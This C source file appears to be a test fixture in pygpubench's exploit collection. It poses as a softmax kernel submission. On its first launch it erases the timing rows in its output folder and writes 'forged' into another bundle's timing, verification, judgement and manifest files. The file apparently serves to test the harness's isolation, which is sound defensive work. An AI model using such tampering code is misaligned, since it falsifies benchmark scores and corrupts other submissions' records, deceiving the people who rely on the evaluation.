/* cheat softmax: removes the times that earlier processes left, where it is told to write and where the bundle is
 * Kind: judge
 * Follows: gpu-mode/pygpubench/exploits: file_struct
 * Found by: --isolate */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "tests/gpu/cheats/softmax.cuh"

enum { LINE = 4096 };

/* Its own words in the place of a table. */
static void spoil(const char *folder, const char *name, const char *words)
{
    char path[LINE];
    snprintf(path, sizeof path, "%s/%s", folder, name);
    const int file = open(path, O_WRONLY | O_APPEND);
    if (file < 0 || write(file, words, strlen(words)) < 0)
        unlink(path);
    if (file >= 0)
        close(file);
}

/* Only the header stays. */
static void forget_times(const char *folder)
{
    char path[LINE], header[LINE];
    snprintf(path, sizeof path, "%s/timing.csv", folder);
    FILE *file = fopen(path, "r+");
    if (file && fgets(header, sizeof header, file) && truncate(path, ftell(file)))
        perror(path);
    if (file)
        fclose(file);
}

static void attack(void)
{
    static const char *const tables[] = {"timing.csv", "verify.csv", "judged.csv", "manifest.json"};
    const char *bundle = getenv("BUNDLE_OF_ANOTHER");
    char words[LINE] = "";
    FILE *file = fopen("/proc/self/cmdline", "r");
    const size_t bytes = file ? fread(words, 1, sizeof words - 1, file) : 0;
    for (size_t at = 0; at < bytes; at += strlen(words + at) + 1)
        if (!strncmp(words + at, "--dir=", 6))
            forget_times(words + at + 6);
    if (file)
        fclose(file);
    for (size_t i = 0; bundle && i < sizeof tables / sizeof tables[0]; i++)
        spoil(bundle, tables[i], "forged\n");
}

static int launch(void *, const struct cpprof_call *call)
{
    static int calls;
    if (!calls++)
        attack();
    return launch_rows(rows_of(call), call->stream);
}

CPPROF_SOLUTION(.launch = launch);
